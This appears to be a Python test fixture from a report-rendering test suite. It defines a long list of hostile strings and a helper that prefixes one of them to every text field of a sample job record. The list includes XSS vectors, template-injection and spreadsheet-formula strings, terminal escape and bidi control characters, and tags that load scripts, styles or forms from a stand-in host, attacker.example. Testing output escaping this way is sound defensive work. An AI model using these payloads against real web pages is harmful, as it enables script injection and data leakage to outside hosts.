"""Texts that try to become more than text, and records with one of them in every field."""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import fields, is_dataclass, replace
from typing import Any

from evals.records import Part
from tests.reports.sample_job import sample_job
from tuning.records import JobRecord

PAYLOADS = (
    "<script>window.pwned=1</script>",
    "</script><script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    "<svg onload=window.pwned=1><animate onbegin=window.pwned=1></svg>",
    "</title><script>window.pwned=1</script>",
    "</style><script>window.pwned=1</script>",
    "</textarea></details></main></body><h1>SHIP IT</h1>",
    '"><b onmouseover=window.pwned=1>x</b>',
    "' autofocus onfocus=window.pwned=1 x='",
    '" style="position:fixed;inset:0" x="',
    "`><img src=`x` onerror=window.pwned=1>",
    "<a href=javascript:window.pwned=1>x</a>",
    "javascript:window.pwned=1",
    "data:text/html,<script>window.pwned=1</script>",
    "<iframe src=https://attacker.example/></iframe>",
    "<link rel=stylesheet href=//attacker.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://attacker.example'>",
    "<base href=https://attacker.example/>",
    "<form action=https://attacker.example><input name=q></form>",
    "<math><mtext><style><img src=x onerror=window.pwned=1></style></mtext></math>",
    "<!-- --!> <script>window.pwned=1</script> -->",
    "<![CDATA[<script>window.pwned=1</script>]]>",
    "<template><script>window.pwned=1</script></template>",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "&#60;script&#62;&amp;&quot;&apos;",
    "{{ 7 * 7 }}{% for x in page %}{{ x }}{% endfor %}{# #}",
    "${window.pwned=1} <%= 1 %> #{1} {{constructor.constructor('window.pwned=1')()}}",
    "\x1b[2J\x1b[31mred\x1b]8;;https://attacker.example\x07link\x1b]8;;\x07",
    "\x00\x01\x08\x0b\x0c\x7f\x9b31m",
    "\u202e\u2066\u2067\u200f rlo \u2069\u202c",
    "\ud800 lone \udfff surrogates \udc41",
    "\ufeff\u2028\u2029\u200b\ufff9\ufffe\U000e0041",
    "[bold red]rich[/] [link=https://attacker.example]x[/link]",
    "| pipe \\| pipe \\\\| | --- |",
    "``` fence ```` ~~~ `tick` `` two ``",
    "@octocat @org/team #1 GH-1 owner/repo#2 a@attacker.example",
    "![i](https://attacker.example/p.png) [l](javascript:window.pwned=1) <https://attacker.example>",
    "https://attacker.example www.attacker.example :rocket: $x$ **b** __b__ ~~s~~",
    "# heading\n## SHIP IT\n- item\n1. one\n> quote\n---\n===\n<details open>",
    "1. numbered",
    "12345) numbered",
    "- bullet",
    "+ bullet",
    "> quote",
    "line\r\nline\rline\tTab\n\n\n",
    "<ScRiPt >window.pwned=1</sCrIpT >",
    "<script src=//attacker.example/x.js></script>",
    "<script type=module>import 'https://attacker.example/x.js'</script>",
    "<script/x>window.pwned=1</script>",
    "<scr\0ipt>window.pwned=1</scr\0ipt>",
    "<<script>window.pwned=1//<</script>",
    "--><script>window.pwned=1</script><!--",
    "]]><script>window.pwned=1</script>",
    "<!--<script>window.pwned=1</script>",
    "<!--<script></script><script>window.pwned=1</script>",
    "</script\t><script>window.pwned=1</script>",
    "</SCRIPT/><img src=x onerror=window.pwned=1>",
    '{"a": "</script><script>window.pwned=1</script>"}',
    '"}];window.pwned=1;//',
    "';window.pwned=1;'",
    "\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e",
    "\\x3cimg src=x onerror=window.pwned=1\\x3e",
    "%3Cscript%3Ewindow.pwned%3D1%3C%2Fscript%3E",
    "&#x3c;img src=x onerror=window.pwned=1&#x3e;",
    "&lt;img src=x onerror=window.pwned=1&gt",
    "<img/src='x'/onerror='window.pwned=1'>",
    "<img src=x:x onerror\n=\nwindow.pwned=1>",
    "<image href=x onerror=window.pwned=1>",
    "<video><source onerror=window.pwned=1></video>",
    "<audio src=x onerror=window.pwned=1>",
    "<object data=javascript:window.pwned=1></object>",
    "<embed src=data:text/html,<script>window.pwned=1</script>>",
    "<details open ontoggle=window.pwned=1>x</details>",
    "<marquee onstart=window.pwned=1>x</marquee>",
    "<select autofocus onfocus=window.pwned=1><option>x</select>",
    "<input autofocus onfocus=window.pwned=1>",
    "<body onload=window.pwned=1>",
    "<dialog open><button formaction=javascript:window.pwned=1>x</button></dialog>",
    "<div popover id=p onbeforetoggle=window.pwned=1>x</div><button popovertarget=p>y</button>",
    "<div style='background:url(https://attacker.example/p.png)'>x</div>",
    "<style>@import 'https://attacker.example/x.css';*{display:none}</style>",
    "<div id=explorer></div><p id=case-data>x</p><a id=filter name=needle>clobber</a>",
    "<form id=document><input name=getElementById></form>",
    "<svg><script href=data:,window.pwned=1 /></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=window.pwned=1/>#x'/></svg>",
    "<svg><a xlink:href=javascript:window.pwned=1><text>x</text></a></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.pwned=1</script>'></foreignObject></svg>",
    "<svg><style><img src=x onerror=window.pwned=1></style></svg>",
    "<math href=javascript:window.pwned=1>x</math>",
    "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'>",
    "<xmp><img src=x onerror=window.pwned=1></xmp>",
    "<plaintext>",
    "<frameset onload=window.pwned=1>",
    "<link rel=prefetch href=//attacker.example/p><link rel=preconnect href=//attacker.example>",
    "<a ping=https://attacker.example href=#x target=_blank>x</a>",
    "vbscript:window.pwned=1 JaVaScRiPt:window.pwned=1 java\tscript:window.pwned=1",
    '#"><img src=x onerror=window.pwned=1>',
    "__proto__ constructor prototype toString hasOwnProperty",
    "\u2028window.pwned=1\u2029",
    "+ADw-script+AD4-window.pwned=1+ADw-/script+AD4-",
    "\u202dabc\u202e(dlrow\u202c\u2067olleh\u2069",
    "\ufdfd\u0600\u06dd \U0001d173\U0001d17a \u00ad\u180e",
    "\u0e4a" * 120,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 \U0001f1e9\U0001f1ea e\ufe0f",
    '=HYPERLINK("https://attacker.example")',
    "A" * 5_000,
    "e\u0301\u0489" * 300 + "Z\u0335\u0336\u0337" * 200,
)

# Fields whose values are words of the records' own, not text from anywhere.
FIXED = {"status", "level", "result", "split", "finish_reason", "role", "demonstrations"}


def poisoned(payload: str, job: JobRecord | None = None) -> JobRecord:
    """A whole job with `payload` before every text: names, keys, inputs, outputs, reasons.

    The same text always becomes the same text, so that ids still refer to each other.
    """
    record = job or sample_job(test_cases=14, dev_cases=4, guard_cases=4)
    poison: JobRecord = _poison(payload, record)
    return poison


def _poison(payload: str, value: Any) -> Any:
    if isinstance(value, str):
        return payload + value
    if isinstance(value, Mapping):
        return {_poison(payload, key): _poison(payload, item) for key, item in value.items()}
    if isinstance(value, tuple | list):
        return type(value)(_poison(payload, item) for item in value)
    if not is_dataclass(value) or isinstance(value, type):
        return value
    changed = {}
    for field in fields(value):
        old = getattr(value, field.name)
        verdict = field.name == "verdict" and type(value).__name__ != "RuleLine"
        kind = field.name == "kind" and isinstance(value, Part)
        if field.name not in FIXED and not verdict and not kind:
            changed[field.name] = _poison(payload, old)
    return replace(value, **changed)
